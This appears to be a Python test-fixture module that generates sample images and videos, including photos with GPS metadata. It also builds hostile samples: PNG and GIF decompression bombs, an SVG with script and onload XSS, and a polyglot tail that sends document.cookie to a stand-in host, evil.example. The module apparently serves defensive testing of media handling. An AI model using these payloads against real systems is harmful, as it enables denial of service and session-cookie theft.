"""Images and videos as cameras, designers and attackers make them."""

from __future__ import annotations

import io
import struct
import zlib
from datetime import timedelta
from fractions import Fraction

import av
from PIL import Image, ImageCms, ImageDraw


def picture(size: tuple[int, int] = (800, 600), colour: str = "teal", mode: str = "RGB") -> Image.Image:
    """A drawing whose top left corner is red: one sees which way up it is."""
    image = Image.new(mode, size, colour)
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 4, size[1] // 4), fill="red")
    return image


def saved(image: Image.Image, kind: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (800, 600), colour: str = "teal", **options) -> bytes:
    return saved(picture(size, colour), "JPEG", quality=95, **options)


def png(size: tuple[int, int] = (800, 600), colour: str = "teal") -> bytes:
    return saved(picture(size, colour), "PNG")


def located(orientation: int = 1) -> bytes:
    """A photo that says where it was taken, with which camera, and how it was held."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x010E] = orientation, "Cámara secreta", "taken at home"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (40.0, 25.0, 7.0), "W", (3.0, 41.0, 31.0)
    return jpeg(exif=exif, comment=b"comentario privado")


def gif(frames: int = 3, size: tuple[int, int] = (120, 80), **options) -> bytes:
    drawn = [Image.new("RGB", size, (40 * n % 256, 80, 120)) for n in range(frames)]
    return saved(drawn[0], "GIF", save_all=True, append_images=drawn[1:], duration=200, loop=0, **options)


def webp(frames: int = 3) -> bytes:
    drawn = [picture((120, 80), colour) for colour in ("teal", "navy", "gold")[:frames]]
    return saved(drawn[0], "WEBP", save_all=True, append_images=drawn[1:], duration=150)


def cmyk() -> bytes:
    return saved(picture().convert("CMYK"), "JPEG")


def sixteen_bits() -> bytes:
    """Grey from black to white in 16 bits."""
    image = Image.new("I;16", (256, 32))
    image.putdata([x * 257 for _y in range(32) for x in range(256)])
    return saved(image, "PNG")


def palette() -> bytes:
    """Colours by number, one of which is seen through."""
    image = picture((64, 64)).quantize(8)
    image.info["transparency"] = image.getpixel((60, 60))
    return saved(image, "PNG", transparency=image.getpixel((60, 60)))


def exchanged() -> bytes:
    """A photo whose profile says that its red is blue and its blue red: an sRGB profile with the two tags exchanged."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    exchanged = profile.replace(b"rXYZ", b"?XYZ", 1).replace(b"bXYZ", b"rXYZ", 1).replace(b"?XYZ", b"bXYZ", 1)
    return jpeg(icc_profile=exchanged)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few kB that would be 3.6 thousand million pixels."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def gif_bomb() -> bytes:
    """A GIF that says that it is as large as GIFs can be."""
    small = bytearray(gif(1))
    small[6:10] = struct.pack("<HH", 65_535, 65_535)
    return bytes(small)


def endless_gif() -> bytes:
    """Two thousand frames of one pixel each."""
    one = gif(2, (1, 1))
    start = one.index(b"\x21\xf9")
    middle = one[one.rindex(b"\x21\xf9") : -1]
    return one[:start] + middle * 2000 + b";"


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x()</script></svg>"""
POLYGLOT_TAIL = b"\n<script>fetch('https://evil.example/'+document.cookie)</script>"


def video(
    *, kind: str = "mp4", picture: bool = True, sound: bool = False, seconds: float = 1.0, size=(160, 90), **metadata
) -> bytes:
    """A short film, ten frames a second, that says where it was made."""
    out = io.BytesIO()
    with av.open(out, "w", format=kind) as container:
        container.metadata.update(metadata or {"location": "+40.4168-003.7038/", "comment": "comentario privado"})
        pictures = container.add_stream("libvpx" if kind == "webm" else "libx264", rate=10) if picture else None
        sounds = container.add_stream("libopus" if kind == "webm" else "aac", rate=48_000) if sound else None
        if pictures:
            _film(container, pictures, seconds, size)
        if sounds:
            _silence(container, sounds, seconds)
    return out.getvalue()


def _film(container, stream, seconds: float, size: tuple[int, int]) -> None:
    stream.width, stream.height, stream.pix_fmt = *size, "yuv420p"
    for n in range(max(int(seconds * 10), 1)):
        frame = av.VideoFrame.from_image(Image.new("RGB", size, (25 * n % 256, 90, 60)))
        container.mux(stream.encode(frame))
    container.mux(stream.encode(None))


def _silence(container, stream, seconds: float) -> None:
    for n in range(int(seconds * 48_000) // 960):
        frame = av.AudioFrame(format=stream.format.name, layout="stereo", samples=960)
        for plane in frame.planes:
            plane.update(bytes(plane.buffer_size))
        frame.sample_rate, frame.pts, frame.time_base = 48_000, n * 960, Fraction(1, 48_000)
        container.mux(stream.encode(frame))
    container.mux(stream.encode(None))


def seconds(count: int) -> timedelta:
    return timedelta(seconds=count)
